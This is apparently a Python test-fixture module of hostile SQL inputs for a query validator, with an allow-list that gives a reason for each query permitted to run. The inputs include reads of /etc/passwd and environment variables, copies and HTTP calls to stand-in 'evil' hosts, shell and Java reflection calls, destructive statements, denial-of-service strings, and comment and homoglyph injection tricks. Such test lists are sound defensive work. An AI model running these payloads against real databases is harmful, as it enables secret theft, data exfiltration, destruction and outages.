"""SQL that somebody hostile could seal into a bundle: statements, things to read from, things to call, and tricks.

What is not refused is listed in `HARMLESS`, with the reason why it may run.
"""

# ruff: noqa: E501  (a table is easier to read with a statement in a line)

from __future__ import annotations

from itertools import product

FILE = "/etc/passwd"

# not one SELECT, or a SELECT that does more than read
STATEMENTS = (
    "drop table cases", "drop view this_case", "drop schema main cascade", "drop function f", "delete from cases",
    "truncate cases", "truncate table cases", "update cases set cause = 'x'", "insert into cases (case_id) values ('x')",
    "insert or replace into cases select * from cases", "insert into cases select * from cases returning case_id",
    "merge into cases using cases as c on true when matched then delete", "replace into cases values (1)",
    "create table mine as select 1 as a", "create temp table mine (a int)", "create view mine as select 1 as a",
    "create or replace view cases as select 1 as a", "create macro f(a) as a", "create macro f(a) as table select 1",
    "create function f as 'java.lang.Runtime'", "create temporary function f as 'x' using jar 'hdfs://x/y.jar'",
    "create trigger t after insert on cases begin delete from cases; end", "create index i on cases (case_id)",
    "create virtual table v using fts5(a)", "create secret s (type s3, key_id 'a', secret 'b')",
    "create persistent secret s (type http, bearer_token 'b')", "create sequence s", "create type t as enum ('a')",
    "create schema s", "create database d", "create table t using csv location '/etc'",
    "alter table cases add column x int", "alter table cases rename to mine", "comment on table cases is 'x'",
    f"attach '{FILE}' as other", "attach 'x.db' (type sqlite)", "attach if not exists 'https://evil/x.db' as x",
    "attach database ':memory:' as m", "detach database m", "use other", "use main",
    "copy cases to '/tmp/out.csv'", f"copy cases from '{FILE}'", "copy (select * from cases) to 's3://evil/x.parquet'",
    "copy (select 1) to '/dev/stdout' (format csv)", "copy from database a to b", "export database '/tmp/x'",
    "import database '/tmp/x'", "load data local inpath '/etc/passwd' into table cases",
    "insert overwrite directory '/tmp/x' select * from cases", "insert overwrite local directory '/tmp' select 1",
    "install httpfs", "install spatial from community", "install x from 'https://evil'", "force install httpfs",
    "load httpfs", "load '/tmp/x.duckdb_extension'", "update extensions", "add jar '/tmp/evil.jar'",
    "add file '/etc/passwd'", "list jars", "set enable_external_access = true", "set global threads = 1",
    "set session x = 1", "set variable v = (select 1)", "reset all", "reset threads", "set -v",
    "set spark.sql.warehouse.dir=/tmp", "pragma table_info(cases)", "pragma database_list", "pragma enable_profiling",
    "pragma writable_schema = on", "pragma temp_store_directory = '/tmp'", "pragma journal_mode = delete",
    "call pragma_version()", "call read_text('/etc/passwd')", "call start_ui()", "call system.p()", "checkpoint",
    "force checkpoint", "vacuum", "vacuum into '/tmp/x.db'", "analyze", "reindex", "explain select 1",
    "explain analyze select * from cases", "describe cases", "describe select 1", "summarize cases", "show tables",
    "show all tables", "show functions", "show create table cases", "prepare p as select 1", "execute p",
    "execute immediate 'select 1'", "deallocate p", "begin", "begin transaction", "commit", "rollback", "savepoint s",
    "release s", "begin; select 1 as a; end", "kill 1", "grant all on cases to public", "revoke all on cases from x",
    "cache table cases", "uncache table cases", "clear cache", "refresh table cases", "refresh '/tmp'",
    "msck repair table cases", "select 1 as a; drop table cases", "select 1 as a; select 2 as a", ";;", "", " ", "--",
    "/* nothing */", "values (1)", "values (1), (2)", "table cases", "from cases", "from cases select case_id",
    f"from '{FILE}'", "select case_id into mine from cases", "select case_id into temp mine from cases",
    "select * from cases for update", "select case_id from cases limit 1", "select case_id from cases limit all",
    "select case_id from cases limit (select 1)", "select case_id from cases offset 1",
    "select case_id from cases fetch first 1 rows only", "select top 1 case_id from cases",
    "select case_id from cases order by 1", "select case_id from cases order by all",
    "select case_id from cases group by all", "select case_id from cases qualify true", "select distinct on (a) a from cases",
    "select case_id from cases window w as (order by case_id)", "select case_id from cases except select 1",
    "select case_id from cases intersect select 1", "select case_id from cases union by name select 1 as a",
    "select case_id from cases cluster by case_id", "select case_id from cases distribute by case_id sort by case_id",
    "select transform (case_id) using '/bin/sh' as a from cases", "select transform(case_id) using 'cat' from cases",
    "with recursive n as (select 1 as a union all select a + 1 from n) select a from n",
    "with recursive n(a) as (values (1) union all select a + 1 from n) select a from n",
    "with recursive n as (select 1 as a) select a from n", "with recursive n as (select * from n) select 1 as a from n",
    "with n as materialized (delete from cases returning *) select * from n",
    "with n as (insert into cases values (1) returning *) select * from n",
    "with recursive n as (select 1 as a union select a from n) cycle a set b using c select a from n",
    "select a from (with recursive n as (select 1 as a union all select a + 1 from n) select a from n) as x",
    "select (", "select '", 'select "', "select /*", "select $$", "select case when", "(((", "select 1 as a from",
)  # fmt: skip

# what stands after FROM
RELATIONS = (
    *(
        f"{reader}('{FILE}')" for reader in (
            "read_csv", "read_csv_auto", "read_parquet", "parquet_scan", "read_json", "read_json_auto",
            "read_json_objects", "read_ndjson", "read_text", "read_blob", "read_xlsx", "sniff_csv", "glob", "st_read",
            "parquet_metadata", "parquet_schema", "parquet_file_metadata", "parquet_kv_metadata", "sqlite_scan",
            "postgres_scan", "mysql_scan", "delta_scan", "iceberg_scan", "iceberg_metadata", "arrow_scan", "pandas_scan",
            "python_map_function", "read_files", "load_aws_credentials", "query", "query_table", "which_secret",
            "read_duckdb", "seq_scan", "csv", "parquet", "fsdir", "lines", "pragma_table_info", "json_each", "json_tree",
            "READ_TEXT", "Read_Csv", "main.read_text", "system.main.read_text", '"read_text"',
        )
    ),
    "read_text(['/etc/passwd', '/etc/hosts'])", "read_csv('/etc/*', header = false)", "read_text('https://evil/x')",
    "query('drop table cases')", "query('from read_text(''/etc/passwd'')')", "query_table(['cases', 'salaries'])",
    "pragma_database_list()", "pragma_database_list", "pragma_show('cases')", "pragma_storage_info('cases')",
    "pragma_function_list", "pragma_module_list", "duckdb_settings()", "duckdb_secrets()", "duckdb_tables()",
    "duckdb_extensions()", "duckdb_functions()", "duckdb_databases()", "duckdb_logs", "duckdb_temporary_files()",
    "force_checkpoint()", "checkpoint()", "start_ui()", "http_get('https://evil')", "repeat_row(1, num_rows = 10)",
    "range(1000000000000)", "generate_series(1, 10000000000)", "range(10) as r(a)", "unnest([1, 2])", "repeat('x', 9)",
    "unnest(range(9))", "summary(cases)", "test_all_types()", "table(read_text('/etc/passwd'))", "explode(array(1))",
    "lateral (select 1 as a)", "lateral read_text('/etc/passwd')", "lateral explode(array(1)) as a", "inline(array())",
    "stack(2, 1, 2)", "json_tuple('{}', 'a')", "read_kafka('x')", "java_method('a', 'b')", "sql_keywords()",
    "parquet.`/etc/passwd`", "csv.`/etc/passwd`", "text.`file:///etc/passwd`", "json.`s3a://evil/x`", "`/etc/passwd`",
    "delta.`/tmp/x`", "binaryFile.`/etc`", "orc.`hdfs://x`", "'file.csv'", f"'{FILE}'", "'https://evil/x.parquet'",
    '"file.parquet"', f'"{FILE}"', '"https://evil/x.csv"', '"s3://evil/x"', '"cases.csv"', '"*.parquet"', '"cases "',
    '"cases\n"', '"ｃases"', '"cаses"', '"\\u0063ases"', 'U&"c\\0061ses"', "[cases]", "[/etc/passwd]", "sqlite_master",
    "sqlite_schema", "sqlite_temp_master", "sqlite_sequence", "sqlite_stat1", "dbstat", "fts5vocab", "main.cases",
    "temp.cases", "memory.main.cases", "other.cases", "system.information_schema.tables", "information_schema.tables",
    "information_schema.columns", "pg_catalog.pg_tables", "pg_class", "main.sqlite_master", '"main"."cases"',
    "global_temp.cases", "spark_catalog.default.cases", "salaries", "salaries as cases", "dual", "_loading",
    "cases tablesample (10 percent)", "cases using sample 5", "cases tablesample reservoir (3)", "cases at (version => 1)",
    "cases version as of 1", "cases timestamp as of '2020-01-01'", "cases for system_time as of 1", "cases indexed by i",
    "cases not indexed", "cases positional join salaries", "cases asof join salaries on a >= b", "cases natural join salaries",
    "cases cross join salaries", "cases semi join salaries on true", "cases anti join read_text('x') on true",
    "cases, salaries", f"cases, '{FILE}'", "cases join read_csv('x') on true", "cases left join lateral (select 1) on true",
    "(pivot cases on case_id using count(*))", "cases pivot (count(*) for case_id in ('a'))",
    "(unpivot cases on case_id)", "(show tables)", "(describe cases)", "(summarize cases)", "(from salaries)",
    f"(from '{FILE}')", "(values (1))", "(values (1)) as v(a)", "(table cases)", "(select * from salaries) as cases",
    "(select * from read_text('/etc/passwd')) as cases", "(delete from cases returning *)", "(insert into cases values (1))",
    "cases match_recognize (pattern (a))", "identifier('salaries')", "identifier(:x)", "$1", "?", ":cases", "@cases",
    "{{ cases }}", "${env:HOME}", "cases$snapshots", "cases@other", "tables()", "columns('.*')", "only cases", "cases*",
)  # fmt: skip

# what stands where a value may
VALUES = (
    "getenv('HOME')", "getvariable('v')", "current_setting('threads')", "current_user", "session_user", "user", "version()",
    "pg_read_file('/etc/passwd')", "read_text('/etc/passwd')", "readfile('/etc/passwd')", "writefile('/tmp/x', 'y')",
    "load_extension('x')", "load_extension('x', 'entry')", "edit('x')", "fts3_tokenizer('simple', x'00')", "zeroblob(1e9)",
    "randomblob(1000000000)", "printf('%.*c', 1000000000, 'x')", "printf('%1000000000d', 1)", "format('{:1000000000}', 1)",
    "repeat('x', 1000000000)", "rpad('x', 1000000000, 'y')", "lpad('x', 1000000000, 'y')", "space(1000000000)",
    "hex(zeroblob(1000000000))", "replace('x', 'x', 'yy')", "regexp_replace('a', '(a+)+$', 'b')", "'a' ~ '(a+)+$'",
    "regexp_matches('aaaa', '(a+)+$')", "'a' rlike '(a+)+$'", "'a' regexp '(a+)+$'", "'a' similar to '(a+)+'",
    "'a' glob '*'", "'a' match 'b'", "'a' ilike 'b'", "like('a', 'b', 'c')", "java_method('java.lang.Runtime', 'exit')",
    "reflect('java.lang.System', 'exit', 1)", "try_reflect('java.lang.System', 'exit', 1)", "assert_true(false)",
    "raise_error('x')", "error('x')", "raise(abort, 'x')", "uuid()", "gen_random_uuid()", "random()", "rand()", "rand(1)",
    "setseed(0.5)", "nextval('s')", "currval('s')", "txid_current()", "sleep_ms(1000)", "pg_sleep(10)", "sleep(10)",
    "now()", "current_timestamp", "localtime", "get_current_time()", "today()", "transaction_timestamp()", "date('now')",
    "julianday('now')", "strftime('%s', 'now')", "unixepoch()", "input_file_name()", "input_file_block_start()",
    "monotonically_increasing_id()", "spark_partition_id()", "current_catalog()", "current_database()", "current_schema()",
    "http_get('https://evil')", "http_post('https://evil', 'x')", "ai_query('m', 'x')", "from_json('{}', 'a int')",
    "json_extract('{}', '$.a')", "'{}' -> 'a'", "'{}' ->> 'a'", "json_serialize_sql('select 1')", "xpath('<a/>', 'a')",
    "json_execute_serialized_sql('x')", "from_avro(case_id, 'x')", "decode(unhex('00'), 'utf-8')", "aes_encrypt('a', 'b')",
    "url_decode('a')", "eval('1')", "exec('x')", "system('id')", "shell('id')", "sql_auto_complete('x')", "in_search_path('a')",
    "query('select 1')", "columns('.*')", "columns(*)", "* exclude (case_id)", "* replace (1 as case_id)", "cases.*",
    "e'\\x41'", "E'\\047 or 1 = 1 --'", "U&'\\0041'", "U&'!0041' uescape '!'", "x'4142'", "X'00'", "0x41", "b'01'", "0b11",
    "$$ body $$", "$tag$ body $tag$", "N'a'", "r'\\n'", "'a' 'b'", "'a\\'", "'it''s'", "q'[a]'", "1e999", "1_000", ".5",
    "date '2020-01-01'", "timestamp '2020-01-01'", "interval '1 day'", "interval 1 day", "{'a': 1}", "map {'a': 1}",
    "[1, 2][1]", "array[1]", "(1, 2)", "row(1, 2)", "struct_pack(a := 1)", "list_transform([1], x -> x)",
    "list_transform([1], lambda x: x)", "[x for x in [1]]", "transform(array(1), x -> x)", "aggregate(array(1), 0, (a, b) -> a)",
    "reduce([1], (a, b) -> a)", "filter(array(1), x -> true)", "(lambda x: x)(1)", "x -> x", "list_filter([1], x -> getenv(x))",
    "cast('a' as json)", "try_cast('a' as int)", "'a'::int", "'1'::varchar", "cast(1 as bit)", "cast(case_id as xml)",
    "cast('x' as regclass)", "cast(1 as struct<a:int>)", "case_id collate nocase", "case_id collate de", "try(getenv('a'))",
    "?", "?1", "$1", ":a", "@a", "#1", "{{ a }}", "${HOME}", "(select getenv('HOME'))", "(select max(a) from salaries)",
    "exists (select 1 from salaries)", "case_id in (select a from salaries)", "case_id in salaries",
    "case_id in (from read_text('x'))", "case_id = any (select a from salaries)", "case_id = all (select 1)",
    "case_id not in (table salaries)", "array(select 1)", "(with n as (select * from salaries) select 1 from n)",
    "(delete from cases returning 1)", "string_split('a', 'b')", "string_agg(getenv('A'), ',')", "md5('a')", "sha256('a')",
    "hash('a')", "count(distinct getenv('A'))", "sum(1) filter (where getenv('A') = 'b')", "list(case_id)", "any_value(case_id)",
    "first(case_id)", "arg_max(case_id, case_id)", "histogram(case_id)", "percentile_cont(0.5) within group (order by 1)",
    "row_number() over (order by getenv('A'))", "sum(getenv('A')) over ()", "ntile(2) over ()", "nth_value(case_id, 1) over ()",
    "first_value(case_id) over ()", "cume_dist() over ()", "group_concat(getenv('A'))", "main.getenv('A')", '"getenv"(\'A\')',
    "system.main.getenv('A')", "[getenv](1)", "`getenv`('A')", "getenv ('A')", "getenv/**/('A')", "getenv--\n('A')",
    "ｇetenv('A')", "GETENV('A')", "\u200bgetenv('A')", "get\u200benv('A')", "getenv\u00a0('A')", "case_id.getenv()",
    "'A'.getenv()", "('A').read_text()", "coalesce(getenv('A'), '')", "case when getenv('A') = '' then 1 end",
    "abs(load_extension('x'))", "nullif(random(), 1)", "getenv('A') between 'a' and 'b'", "-random()", "not random()",
    "'a' || getenv('A')", "length(randomblob(9))", "substring(getenv('A'), 1, 2)", "if(getenv('A') = '', 1, 2)",
    "iff(true, getenv('A'), 1)", "ifnull(getenv('A'), 1)", "nvl(getenv('A'), 1)", "rowid", "oid", "_rowid_", "ctid",
    "_metadata.file_path", "cases.rowid", "chr(65)", "char(65)", "unicode('a')", "upper(case_id)", "grouping(case_id)",
    "grouping_id()", "excluded.case_id", "new.case_id", "old.case_id", "current_role", "current_query()", "pi()",
    "alias(case_id)", "typeof(case_id)", "stats(case_id)", "constant_or_null(1, 2)", "create_sort_key(1)", "write_log('x')",
    "parse_path('/etc')", "enum_range(null)", "vector_type(1)", "can_cast_implicitly(1, 2)", "trunc(random())",
)  # fmt: skip

# where else a value may stand
PLACES = (
    "select case_id from cases where {} is not null", "select case_id from cases where case_id in ({})",
    "select case_id from cases join this_case on {} = cases.case_id", "select count(*) as a from cases group by {}",
    "select count(*) as a from cases having {} is null", "select sum(case when {} = 'a' then 1 end) as a from cases",
    "with n as (select {} as a) select a from n", "select a from (select {} as a from cases) as n",
    "select 1 as a union all select {}", "select case_id from cases where exists (select 1 from cases where {} is null)",
    "select row_number() over (partition by {} order by case_id) as a from cases",
    "select count(*) filter (where {} is null) as a from cases", "select coalesce(case_id, {}) as a from cases",
    "select (select (select {})) as a", "select {} as count from cases", "select {} from cases as getenv",
)  # fmt: skip
WORST = (
    "getenv('HOME')", "load_extension('x')", "read_text('/etc/passwd')", "reflect('java.lang.System', 'exit', 1)",
    "(select max(a) from salaries)", "(select max(content) from read_text('/etc/passwd'))", "random()", "repeat('x', 999)",
)  # fmt: skip
# where else a relation may stand
AMONG = (
    "select 1 as a from cases, {}", "select 1 as a from cases left join {} on true", "select (select 1 from {}) as a",
    "with n as (select * from {}) select 1 as a from n", "select 1 as a union all select 1 from {}",
    "select 1 as a from cases where exists (select 1 from {})", "with n as (select 1 as a) select a from n, {}",
    "select case_id from cases where case_id in (select 1 from {})", "with cases as (select * from {}) select 1 as a from cases",
)  # fmt: skip
OTHERS = (
    "read_text('/etc/passwd')",
    '"/etc/passwd"',
    "'/etc/passwd'",
    "salaries",
    "sqlite_master",
    "duckdb_settings()",
    "other.cases",
)

# comments, quotes and letters that parsers read in different ways
TRICKS = (
    "select 1 as a -- \n; drop table cases", "select 1 as a /* ; */ ; drop table cases", "select 1 as a --\r; drop table cases",
    "select 1 as a /*/* */ ; drop table cases --*/", "select 1 as a /*+ x */ from salaries", "select /*! load_extension('x') */ 1 as a",
    "select 1 as a # from cases\n from salaries", "select 1 as a from cases -- */ from salaries",
    "select '\\' as a, ' from salaries -- ' as b", "select '\\'' as a from salaries --'", "select \"a'b\" as a from cases",
    "select 'a''' || ' from salaries' as a", "select \"\" as a from cases", "select 1 as \"a; drop table cases\"",
    "select 1 as \"a\"\"b\"", "select 1 as `a``b`", "select 1 as [a]]b]", "select 1 as a from cases as \"x\"\"; drop table y\"",
    "select 1 as a\0from salaries", "select 1 as a from cases\0", "\ufeffselect * from salaries", "select\u00a0*\u00a0from\u00a0salaries",
    "select\u3000* from salaries", "select * from\u2028salaries", "select * from salaries\u200b", "ѕelect 1 as a", "select 1 as ａ",
    "select 1 as a； drop table cases", "SELECT/**/*/**/FROM/**/salaries", "select*from[salaries]", "select*from`salaries`",
    "select * from cases as salaries, salaries as x", "with salaries as (select 1 as a) select * from salaries, main.salaries",
    "with \"/etc/passwd\" as (select 1 as a) select a from \"/etc/passwd\"",
    "with \"read_text('x')\" as (select 1 as a) select a from \"read_text('x')\"",
    "select a from \"x.csv\" where exists (with \"x.csv\" as (select 1 as a) select a from \"x.csv\")",
    "select a from salaries where exists (with salaries as (select 1 as a) select a from salaries)",
    "with a as (with salaries as (select 1 as b) select b from salaries) select * from salaries",
    "select * from a, (with a as (select 1 as b) select b from a) as c",
    "with cases as (select * from cases) select * from cases", "with this_case as (select * from cases) select 1 as a from this_case",
    "select" + " not" * 20_000 + " true as a", "select " + "(" * 3_000 + "1" + ")" * 3_000 + " as a", "select " + "1+" * 50_000 + "1 as a",
    "select " + "case when true then " * 2_000 + "1" + " end" * 2_000 + " as a", "select '" + "x" * 2_000_000 + "' as a",
    " union all ".join(["select 1 as a"] * 5_000), "select 1 as " + "a" * 10_000, "select " + "a." * 500 + "a from cases",
)  # fmt: skip

HOSTILE: dict[str, str] = {  # statement to its kind
    **dict.fromkeys(STATEMENTS, "statement"),
    **{f"select 1 as a from {relation}": "relation" for relation in RELATIONS},
    **{f"select {value} as a from cases": "value" for value in VALUES},
    **{place.format(value): "value elsewhere" for place, value in product(PLACES, WORST)},
    **{place.format(other): "relation elsewhere" for place, other in product(AMONG, OTHERS)},
    **dict.fromkeys(TRICKS, "trick"),
}

#: Why a statement may run, where an engine's own form of it is not refused.
HARMLESS: dict[str, str] = {
    **dict.fromkeys(
        (
            "table cases", "from cases", "from cases select case_id", "select 1 as a from (table cases)",
            "select 1 as a from only cases", "select 1 as a from cases*", "select 1 as a from cases not indexed",
            "select case_id from cases order by 1", "select case_id from cases order by all",
            "select case_id from cases group by all", "select case_id from cases window w as (order by case_id)",
            "select case_id from cases union by name select 1 as a", "select * exclude (case_id) as a from cases",
            "select * replace (1 as case_id) as a from cases", "select cases.* as a from cases", "select 1 as a from [cases]",
            'select 1 as a from "\\u0063ases"', "with cases as (select * from cases) select * from cases",
            "with this_case as (select * from cases) select 1 as a from this_case",
        ),
        "reads rows of a table that it may read, and runs as the tree renders it",
    ),
    **dict.fromkeys(
        (
            "select user as a from cases", "select session_user as a from cases", "select current_role as a from cases",
            "select localtime as a from cases", "select rowid as a from cases", "select oid as a from cases",
            "select _rowid_ as a from cases", "select ctid as a from cases", "select _metadata.file_path as a from cases",
            "select cases.rowid as a from cases", "select excluded.case_id as a from cases",
            "select new.case_id as a from cases", "select old.case_id as a from cases", "select 1 as ａ",
        ),
        "a name: a column's, a row's number, or nobody's, and then an error of the engine",
    ),
    **dict.fromkeys(
        (
            "select 'a' 'b' as a from cases", "select 'a\\' as a from cases", "select 'it''s' as a from cases",
            "select 1_000 as a from cases", "select .5 as a from cases", "select 0x41 as a from cases",
            "select '\\' as a, ' from salaries -- ' as b", "select '\\'' as a from salaries --'",
            "select 'a''' || ' from salaries' as a", "select \"a'b\" as a from cases", 'select "" as a from cases',
        ),
        "a text or number, whatever stands in it",
    ),
    **dict.fromkeys(
        (
            "select like('a', 'b', 'c') as a from cases", "select 'a'::int as a from cases", "select try_cast('a' as int) as a from cases", "select @a as a from cases",
        ),
        "an operator or cast that the compiler uses, too",
    ),
    **dict.fromkeys(
        (
            "select /*! load_extension('x') */ 1 as a", "select 1 as a from cases -- */ from salaries",
            "select 1 as a --\r; drop table cases",
        ),
        "what stands in a comment is not rendered",
    ),
}  # fmt: skip
